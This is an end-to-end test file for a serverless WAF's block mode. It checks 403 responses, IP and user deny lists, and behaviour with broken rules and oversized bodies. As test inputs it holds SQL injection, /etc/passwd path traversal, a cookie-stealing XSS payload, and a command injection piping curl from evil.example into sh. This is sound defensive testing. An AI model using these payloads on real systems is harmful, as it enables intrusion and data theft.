/**
 * Threat detection in block mode (NIMBUS_APPSEC_MODE=block), end to end over real HTTP through
 * every front door: a request matched by the WAF, from a denied IP, or by a denied user never
 * reaches the handler (proved by a side-effect recorder outside the function and by the
 * handler's log line), and the front door answers 403 in its own shape, JSON by default and
 * HTML for browsers; `nimbus security block-ip|unblock-ip|block-user|unblock-user` take effect
 * in running environments without a redeploy. A broken rules file leaves the function serving;
 * huge bodies, many headers and bodies that are not what they claim still get an answer.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { InvokeCommand } from '@aws-sdk/client-lambda';
import { TestServer, repoRoot, payloadJson } from '../helpers/nimbus.ts';
import { agentLayerArn, eventually, type StoredSpan } from '../helpers/agent.ts';
import {
  appsecEnvironment,
  appsecHandler,
  appsecMemoryMb,
  browserUserAgent,
  exposeOnEveryFrontDoor,
  marked,
  newMarker,
  reachedLine,
  securityEvents,
  type DoorRequest,
  type FrontDoor,
  type HandlerAnswer,
  type StoredSignal,
} from '../helpers/appsec.ts';
import { values, type RawResponse } from '../triggers/http-client.ts';
import { eventFor, type EventShape } from '../fixtures/appsec/http-events.ts';
import { blockedHtmlBody, blockedJsonBody } from '../../src/agent/appsec/blocking-response.ts';

const run = promisify(execFile);
const cli = path.join(repoRoot, 'src', 'cli', 'main.ts');

const blocking = 'appsec-block';
const limits = 'appsec-limits';
const broken = 'appsec-broken-rules';

let server: TestServer;
let recorder: http.Server;
/** Markers the handler reported to the recorder: the calls it really received. */
const received: string[] = [];
let doors: FrontDoor[];
let limitsUrl: FrontDoor;
let brokenUrl: FrontDoor;

before(async () => {
  recorder = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push(Buffer.concat(chunks).toString());
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => recorder.listen(0, '127.0.0.1', resolve));
  const sideEffectUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}/called`;

  server = await TestServer.start({ env: { NIMBUS_IDLE_TIMEOUT_MS: '600000' } });
  const layer = await agentLayerArn(server);
  const create = (FunctionName: string, variables: Record<string, string>, files: Record<string, string> = {}) =>
    server.createFunction({
      FunctionName,
      MemorySize: appsecMemoryMb,
      Layers: [layer],
      Environment: { Variables: appsecEnvironment({ NIMBUS_APPSEC_MODE: 'block', NIMBUS_APPSEC_DENYLIST_POLL_MS: '100', SIDE_EFFECT_URL: sideEffectUrl, ...variables }) },
      files: { 'index.mjs': appsecHandler, ...files },
    });
  // A budget no evaluation reaches, even on a loaded machine: whether a request is blocked
  // must not depend on the scheduler. The limits function keeps the default 5 ms.
  await create(blocking, { NIMBUS_APPSEC_WAF_TIMEOUT: '1000000' });
  await create(limits, {});
  await create(broken, { NIMBUS_APPSEC_RULES: '/var/task/broken-rules.json' }, { 'broken-rules.json': '{"version": "2.2", "metadata": {"rules_version": "9.9.9"}, "rules": [{"id": ' });
  doors = await exposeOnEveryFrontDoor(server, blocking, 'blk');
  limitsUrl = (await exposeOnEveryFrontDoor(server, limits, 'lim'))[0]!;
  brokenUrl = (await exposeOnEveryFrontDoor(server, broken, 'brk'))[0]!;
});
after(async () => {
  await server.stop();
  await new Promise<void>((resolve) => recorder.close(() => resolve()));
});

function nimbus(...args: string[]): Promise<{ stdout: string }> {
  return run(process.execPath, [cli, 'security', ...args, '--endpoint', server.url]);
}

function answerOf(res: RawResponse, what: string): HandlerAnswer {
  assert.equal(res.status, 200, `${what}: ${res.body.toString().slice(0, 300)}`);
  return JSON.parse(res.body.toString()) as HandlerAnswer;
}

/**
 * The handler never ran for `blocked`: checked once every `reached` marker (sent after them)
 * is in the recorder and in the function's log, so an absence cannot be a delay.
 */
async function assertNeverReached(fn: string, blocked: string[], reached: string[]): Promise<void> {
  assert.ok(blocked.length > 0 && reached.length > 0);
  await eventually(async () => received, (r) => reached.every((m) => r.includes(m)), 10_000, 'the allowed calls in the recorder');
  const logs = await eventually(() => server.logs(fn), (lines) => reached.every((m) => lines.some((l) => l.includes(reachedLine(m)))), 10_000, 'the allowed calls in the log');
  assert.deepEqual(blocked.filter((m) => received.includes(m)), [], 'blocked requests that reached the handler (recorder)');
  assert.deepEqual(blocked.filter((m) => logs.some((l) => l.includes(reachedLine(m)))), [], 'blocked requests that reached the handler (log)');
}

/** The expected blocking answer of each front door, HTML or JSON. */
function assertBlocked(door: FrontDoor, res: RawResponse, html: boolean, what: string): void {
  assert.equal(res.status, 403, `${what}: ${res.body.toString().slice(0, 200)}`);
  assert.deepEqual(values(res, 'content-type'), [html ? 'text/html; charset=utf-8' : 'application/json'], what);
  assert.equal(res.body.toString(), html ? blockedHtmlBody : blockedJsonBody, what);
  // ALB passes the result's statusDescription on as the reason phrase.
  if (door.trigger === 'alb') assert.equal(res.statusMessage, 'Forbidden', what);
}

async function awsLambdaSpan(fn: string, requestId: string): Promise<StoredSpan> {
  return eventually(
    async () => {
      const list = (await (await server.fetch(`/nimbus/v1/functions/${fn}/traces?limit=1000`)).json()) as { traces: Array<{ traceId: string }> };
      for (const t of list.traces) {
        const { spans } = (await (await server.fetch(`/nimbus/v1/functions/${fn}/traces/${t.traceId}`)).json()) as { spans: StoredSpan[] };
        const span = spans.find((s) => s.name === 'aws.lambda' && s.meta.request_id === requestId);
        if (span) return span;
      }
      return undefined;
    },
    (span) => span !== undefined,
    20_000,
    `the aws.lambda span of ${requestId}`,
  ) as Promise<StoredSpan>;
}

test('attacks never reach the handler: every front door answers 403 in its own shape, JSON by default, HTML for browsers', async () => {
  const blockedMarkers: string[] = [];
  const reached: string[] = [];
  /** Each blocked request comes from its own address, which names it in the signals. */
  const expected: Array<{ door: FrontDoor; clientIp: string; category: string }> = [];
  let n = 0;
  for (const door of doors) {
    const attacks: Array<{ accept?: string; html: boolean; category: string; request: DoorRequest }> = [
      { accept: 'application/json', html: false, category: 'sql_injection', request: { path: '/search', query: `q=${encodeURIComponent("1' OR '1'='1' --")}` } },
      { html: false, category: 'lfi', request: { path: '/download', query: 'file=..%2F..%2F..%2F..%2Fetc%2Fpasswd' } },
      {
        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
        html: true,
        category: 'xss',
        request: { method: 'POST', path: '/comments', headers: [['Content-Type', 'application/json']], body: JSON.stringify({ text: '<script>alert(document.cookie)</script>' }) },
      },
      { accept: 'text/html', html: true, category: 'command_injection', request: { path: '/orders', headers: [['Cookie', `session=${encodeURIComponent('$(curl http://evil.example/x.sh | sh)')}`]] } },
    ];
    for (const attack of attacks) {
      const clientIp = `198.51.100.${++n}`;
      const marker = newMarker('blocked');
      const headers: Array<[string, string]> = [['User-Agent', browserUserAgent], ['X-Forwarded-For', clientIp], ...(attack.request.headers ?? [])];
      if (attack.accept) headers.push(['Accept', attack.accept]);
      const res = await door.send(marked({ ...attack.request, headers }, marker));
      assertBlocked(door, res, attack.html, `${door.label} ${attack.category}`);
      blockedMarkers.push(marker);
      expected.push({ door, clientIp, category: attack.category });
    }
    // Right after, an ordinary request goes through to the handler.
    const marker = newMarker('allowed');
    const ok = answerOf(await door.send(marked({ path: '/orders/42', headers: [['User-Agent', browserUserAgent], ['Accept', 'application/json']] }, marker)), `${door.label} ordinary request`);
    assert.equal(ok.marker, marker);
    reached.push(marker);
  }
  await assertNeverReached(blocking, blockedMarkers, reached);

  const signals = await eventually(
    () => securityEvents(server, blocking),
    (all) => expected.every((e) => all.some((s) => s.clientIp === e.clientIp)),
    20_000,
    'a signal for every blocked request',
  );
  for (const e of expected) {
    const mine = signals.filter((s) => s.clientIp === e.clientIp);
    const what = `${e.door.label} ${e.category}`;
    assert.ok(mine.some((s) => s.category === e.category), `${what}: ${JSON.stringify(mine.map((s) => [s.ruleId, s.category]))}`);
    for (const s of mine) {
      assert.equal(s.blocked, true, what);
      assert.equal(s.trigger, e.door.trigger, what);
    }
  }
  // The span of a blocked invocation says so.
  const one = signals.find((s) => s.clientIp === expected[0]!.clientIp)!;
  const span = await awsLambdaSpan(blocking, one.requestId);
  assert.equal(span.meta['appsec.event'], 'true');
  assert.equal(span.meta['appsec.blocked'], 'true');
  assert.ok(JSON.parse(span.meta['_dd.appsec.json']!).triggers.some((t: { rule: { id: string } }) => t.rule.id === one.ruleId));
  process.stdout.write(`# blocked requests: ${blockedMarkers.length} over ${doors.length} front doors, reached the handler: 0; ordinary requests after them: ${reached.length}, reached: ${reached.length}\n`);
});

test('block-ip refuses a client within the poll interval on every front door, without a redeploy; unblock-ip lets it in again', async () => {
  const url = doors.find((d) => d.shape === 'function-url')!;
  const from = (ip: string, marker: string): DoorRequest => marked({ path: '/orders/42', headers: [['User-Agent', browserUserAgent], ['X-Forwarded-For', ip], ['Accept', 'application/json']] }, marker);
  const blocked: string[] = [];
  const reached: string[] = [];
  const attempt = async (door: FrontDoor, ip: string): Promise<RawResponse> => {
    const marker = newMarker(`ip-${ip}`);
    const res = await door.send(from(ip, marker));
    (res.status === 403 ? blocked : reached).push(marker);
    return res;
  };

  assert.equal((await attempt(url, '198.51.100.77')).status, 200, 'allowed before it is denied');
  assert.equal((await attempt(url, '203.0.113.9')).status, 200, 'allowed before its network is denied');
  try {
    assert.match((await nimbus('block-ip', '198.51.100.77', '--reason', 'e2e: credential stuffing')).stdout, /^denied ip 198\.51\.100\.77\n$/);
    assert.match((await nimbus('block-ip', '203.0.113.0/24')).stdout, /^denied ip 203\.0\.113\.0\/24\n$/);
    // Each running environment applies the lists at its next poll (every 100 ms here): no
    // redeploy. A door may be served by another environment, so each is waited for; once
    // refused, a client stays refused.
    for (const door of doors) {
      for (const ip of ['198.51.100.77', '203.0.113.9']) {
        await eventually(() => attempt(door, ip), (res) => res.status === 403, 10_000, `${door.label}: ${ip} refused`);
        assertBlocked(door, await attempt(door, ip), false, `${door.label}, denied ${ip}`);
      }
      assert.equal((await attempt(door, '198.51.100.78')).status, 200, `${door.label}: another client is served`);
    }
  } finally {
    await nimbus('unblock-ip', '203.0.113.0/24');
    assert.match((await nimbus('unblock-ip', '198.51.100.77')).stdout, /allowed ip 198\.51\.100\.77 again/);
  }
  for (const door of doors) {
    for (const ip of ['198.51.100.77', '203.0.113.9']) await eventually(() => attempt(door, ip), (res) => res.status === 200, 10_000, `${door.label}: ${ip} allowed again`);
  }
  await assertNeverReached(blocking, blocked, reached);

  const signals = await eventually(
    () => securityEvents(server, blocking),
    (all) => all.filter((s) => s.category === 'block_ip').length >= 2 * doors.length,
    20_000,
    'deny-list signals',
  );
  const denied = signals.filter((s) => s.category === 'block_ip');
  assert.ok(denied.every((s) => s.blocked && s.ruleId === 'nimbus-deny-ip' && s.parameter === 'http.client_ip'));
  assert.deepEqual(new Set(denied.map((s) => s.clientIp)), new Set(['198.51.100.77', '203.0.113.9']));
  assert.deepEqual(new Set(denied.map((s) => s.trigger)), new Set(doors.map((d) => d.trigger)));
});

test('block-user refuses a user named by the authorizer claim (API Gateway events sent by Invoke); unblock-user lets them in', async () => {
  // Nimbus's front doors have no authorizers: the events carry the claims as API Gateway would.
  const invokeAs = async (shape: EventShape, user: string): Promise<{ marker: string; result: { statusCode: number; headers: Record<string, string>; body: string } }> => {
    const marker = newMarker(`user-${user}`);
    const authorizer = shape === 'api-gateway-rest' ? { claims: { sub: user, email: `${user}@example.com` } } : { jwt: { claims: { sub: user }, scopes: ['read'] } };
    const event = eventFor(shape, { method: 'GET', rawPath: '/account', sourceIp: '192.0.2.10', headers: [['Accept', 'application/json'], ['X-Marker', marker], ['User-Agent', browserUserAgent]], authorizer });
    const out = await server.client.send(new InvokeCommand({ FunctionName: blocking, Payload: Buffer.from(JSON.stringify(event)) }));
    assert.equal(out.FunctionError, undefined, 'a blocked request is an answer, not a failed invoke');
    return { marker, result: payloadJson(out.Payload) as { statusCode: number; headers: Record<string, string>; body: string } };
  };
  const blocked: string[] = [];
  const reached: string[] = [];

  const before = await invokeAs('api-gateway-rest', 'mallory');
  assert.equal(before.result.statusCode, 200);
  reached.push(before.marker);
  assert.match((await nimbus('block-user', 'mallory')).stdout, /^denied user mallory\n$/);
  try {
    const refused = await eventually(() => invokeAs('api-gateway-rest', 'mallory'), (r) => {
      (r.result.statusCode === 403 ? blocked : reached).push(r.marker);
      return r.result.statusCode === 403;
    }, 10_000, 'the denied user refused');
    assert.deepEqual(refused.result, { statusCode: 403, headers: { 'content-type': 'application/json' }, body: blockedJsonBody, isBase64Encoded: false });
    const jwt = await eventually(() => invokeAs('api-gateway-http', 'mallory'), (r) => {
      (r.result.statusCode === 403 ? blocked : reached).push(r.marker);
      return r.result.statusCode === 403;
    }, 10_000, 'a JWT authorizer claim (HTTP API) names the user too');
    assert.equal(jwt.result.headers['content-type'], 'application/json');
    const alice = await invokeAs('api-gateway-rest', 'alice');
    assert.equal(alice.result.statusCode, 200, 'another user is served');
    reached.push(alice.marker);
  } finally {
    await nimbus('unblock-user', 'mallory');
  }
  const again = await eventually(() => invokeAs('api-gateway-rest', 'mallory'), (r) => {
    (r.result.statusCode === 403 ? blocked : reached).push(r.marker);
    return r.result.statusCode === 200;
  }, 10_000, 'the user allowed again');
  assert.equal((JSON.parse(again.result.body) as HandlerAnswer).marker, again.marker);
  await assertNeverReached(blocking, blocked, reached);

  const signals = await eventually(() => securityEvents(server, blocking), (all) => all.filter((s) => s.category === 'block_user').length >= blocked.length, 20_000, 'user deny-list signals');
  const denied = signals.filter((s) => s.category === 'block_user');
  assert.ok(denied.every((s) => s.value === 'mallory' && s.blocked && s.ruleId === 'nimbus-deny-user' && s.parameter === 'usr.id'), JSON.stringify(denied));
  assert.deepEqual(new Set(denied.map((s) => s.trigger)), new Set(['api-gateway-rest', 'api-gateway-http']));
});

test('a broken rules file: the function still serves, its log says why the WAF is off, never a failed invoke', async () => {
  const marker = newMarker('broken');
  const res = await brokenUrl.send(marked({ path: '/search', query: `q=${encodeURIComponent("1' OR '1'='1' --")}`, headers: [['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] }, marker));
  assert.equal(answerOf(res, 'attack with the WAF off').marker, marker, 'with no rules nothing is blocked');
  const out = await server.client.send(new InvokeCommand({ FunctionName: broken, Payload: Buffer.from(JSON.stringify({ marker: 'direct' })) }));
  assert.equal(out.FunctionError, undefined);
  const logs = await eventually(() => server.logs(broken), (lines) => lines.some((l) => l.includes('deny lists only')), 10_000, 'the agent saying the WAF is off');
  assert.ok(
    logs.some((l) => /threat detection is off: WAF rules file \/var\/task\/broken-rules\.json is not valid JSON/.test(l)),
    `no clear error in:\n${logs.filter((l) => l.includes('nimbus-agent')).join('\n')}`,
  );
  assert.ok(logs.some((l) => l.includes('threat detection: block mode (deny lists only: the WAF is off)')));
  assert.ok(logs.some((l) => l.includes(reachedLine(marker))));
  assert.deepEqual(await securityEvents(server, broken), []);
});

test('huge bodies, many headers and bodies that are not what they claim still get an answer', async () => {
  const headers: Array<[string, string]> = [['User-Agent', browserUserAgent], ['Accept', 'application/json']];
  const url = doors.find((d) => d.shape === 'function-url')!;
  // `door` defaults to the function with the default 5 ms budget.
  const cases: Array<{ name: string; request: DoorRequest; status: number; bodyLength?: number; door?: FrontDoor }> = [];

  // 1 MiB of form fields: the WAF sees its first characters only, within the budget.
  const field = `comment=${encodeURIComponent("Ordinary text, with quotes ' and \" and <b>tags</b>.")}&`;
  const form = field.repeat(Math.ceil((1024 * 1024) / field.length)).slice(0, 1024 * 1024);
  cases.push({ name: '1 MiB form body', request: { method: 'POST', path: '/upload', headers: [...headers, ['Content-Type', 'application/x-www-form-urlencoded']], body: form }, status: 200, bodyLength: form.length });
  const json = JSON.stringify({ items: Array.from({ length: 12_000 }, (_, i) => ({ id: i, name: `Item ${i}`, note: "O'Reilly & <Sons>" })) });
  cases.push({ name: `${Math.round(json.length / 1024)} KiB JSON body`, request: { method: 'POST', path: '/import', headers: [...headers, ['Content-Type', 'application/json']], body: json }, status: 200, bodyLength: json.length });
  // Short ones: the server, like Node's, refuses more than 16 KiB of header (431).
  const many: Array<[string, string]> = Array.from({ length: 500 }, (_, i) => [`X-H${i}`, `v=${i}`]);
  cases.push({ name: '500 headers', request: { path: '/orders', headers: [...headers, ...many] }, status: 200 });
  cases.push({ name: 'form content type, JSON body', request: { method: 'POST', path: '/orders', headers: [...headers, ['Content-Type', 'application/x-www-form-urlencoded']], body: '{"name":"Ada","city":"Zürich"}' }, status: 200 });
  cases.push({ name: 'bytes that are not UTF-8, called JSON', request: { method: 'POST', path: '/orders', headers: [...headers, ['Content-Type', 'application/json']], body: Buffer.from([0xff, 0xfe, 0x00, 0x01, 0x80, 0x7b, 0x22]) }, status: 200 });
  // The content type lies: the body is still inspected, as text (on the function whose verdicts do not depend on the scheduler).
  const liar = '192.0.2.200';
  cases.push({
    name: 'JSON content type, body not JSON, with SQL injection',
    door: url,
    request: { method: 'POST', path: '/orders', headers: [...headers, ['X-Forwarded-For', liar], ['Content-Type', 'application/json']], body: "name=1' OR '1'='1' --" },
    status: 403,
  });

  for (const c of cases) {
    const marker = newMarker('limits');
    const res = await (c.door ?? limitsUrl).send(marked(c.request, marker));
    assert.equal(res.status, c.status, `${c.name}: ${res.body.toString().slice(0, 200)}`);
    if (c.status !== 200) continue;
    const answer = JSON.parse(res.body.toString()) as HandlerAnswer;
    assert.equal(answer.marker, marker, c.name);
    if (c.bodyLength !== undefined) assert.equal(answer.bodyLength, c.bodyLength, `${c.name}: the handler got all of it`);
    // The request was evaluated, and its span says how the budget went.
    const span = await awsLambdaSpan(limits, answer.requestId);
    assert.equal(span.metrics['_dd.appsec.enabled'], 1, c.name);
    assert.equal(typeof span.metrics['_dd.appsec.waf.timeouts'], 'number', c.name);
    assert.equal(typeof span.metrics['_dd.appsec.waf.duration'], 'number', c.name);
  }
  const signals: StoredSignal[] = await eventually(() => securityEvents(server, blocking), (all) => all.some((s) => s.clientIp === liar), 20_000, 'the signal of the lying body');
  assert.ok(signals.some((s) => s.clientIp === liar && s.category === 'sql_injection' && s.parameter.startsWith('server.request.body') && s.blocked), JSON.stringify(signals.filter((s) => s.clientIp === liar)));
  assert.deepEqual(await securityEvents(server, limits), [], 'ordinary content, however large, raises nothing');
});
